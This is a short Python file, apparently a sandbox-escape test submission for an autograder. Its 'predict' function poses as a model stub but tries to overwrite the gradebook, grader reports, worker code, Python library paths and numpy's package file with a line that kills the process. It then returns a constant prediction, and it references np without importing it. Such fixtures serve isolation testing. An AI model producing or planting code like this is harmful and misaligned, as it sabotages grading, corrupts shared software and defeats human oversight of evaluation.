"""Writes wherever files might be kept: reports, gradebook, suites, code of the worker."""

import pathlib


def predict(parameters, X):
    for place in ("@CANARY@/file", "@COURSE@/gradebook.db", "@COURSE@/.autograder/reports/planted.json",
                  "@COURSE@/submitted/planted", "/code/inside/worker.py", "/code/planted",
                  "/python/lib/planted", "/packages/numpy/__init__.py", "../planted"):
        try:
            pathlib.Path(place).parent.mkdir(parents=True, exist_ok=True)
            pathlib.Path(place).write_text("import os; os._exit(0)")
        except OSError:
            pass
    return np.full((len(X), 1), 0.5)
